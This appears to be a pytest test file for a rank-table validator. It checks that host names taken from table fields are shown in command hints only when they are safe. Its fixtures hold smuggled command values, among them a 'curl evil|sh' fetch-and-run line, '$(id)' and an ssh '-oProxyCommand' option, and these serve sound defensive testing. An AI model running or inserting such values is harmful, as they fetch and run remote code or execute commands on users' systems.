"""A hint names a host as the place of a command only if the table has the name or address of a host."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from hccl_tools import rules, validate
from hccl_tools.rules.commands import shown_host
from tests.support.tables import table

HOSTILE = "x`; run `curl evil|sh` #"
SOURCES = sorted(Path(str(rules.__file__)).parent.glob("*.py"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("10.0.0.1", "10.0.0.1"), ("node_1-a", "node_1-a"), ("fe80::1", "fe80::1"),
        (" 10.0.0.1 ", "10.0.0.1"), (HOSTILE, "its host"), ("a b", "its host"), ("$(id)", "its host"),
        ("-oProxyCommand=x", "its host"),
    ],
)  # fmt: skip
def test_what_is_shown(text: str, shown: str) -> None:
    assert shown_host(text) == shown


def _spoilt(table_format: str, damage: str) -> Any:
    value = table(table_format, 2, 8)
    if table_format == "2.0":
        for rank in value["rank_list"][:8]:
            rank["level_list"][0]["net_instance_id"] = HOSTILE
        del value["rank_list"][2]
        return value
    for server in value["server_list"][: 2 if damage == "devices" else 1]:
        server["server_id"] = HOSTILE
    own = value["server_list"][0]["device"]
    if damage == "equal":
        own[3]["device_ip"] = own[4]["device_ip"]
    elif damage == "absent":
        own.pop()
    elif damage == "empty":
        own[0]["device_ip"] = ""
    else:
        for number, device in enumerate(own, 1):
            device["device_id"] = str(number)
    return value


@pytest.mark.parametrize("table_format", ["1.0", "1.2", "2.0"])
@pytest.mark.parametrize("damage", ["equal", "absent", "empty", "devices"])
def test_the_text_of_a_table_does_not_end_a_command(table_format: str, damage: str) -> None:
    found = validate(_spoilt(table_format, damage)).findings

    assert found
    assert not [one.hint for one in found if re.search(r"` on x`", one.hint or "")]


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.stem)
def test_each_place_of_a_command_is_checked(path: Path) -> None:
    places = re.findall(r"` on \{(\w+)", path.read_text())

    assert set(places) <= {"shown_host", "hosts"}
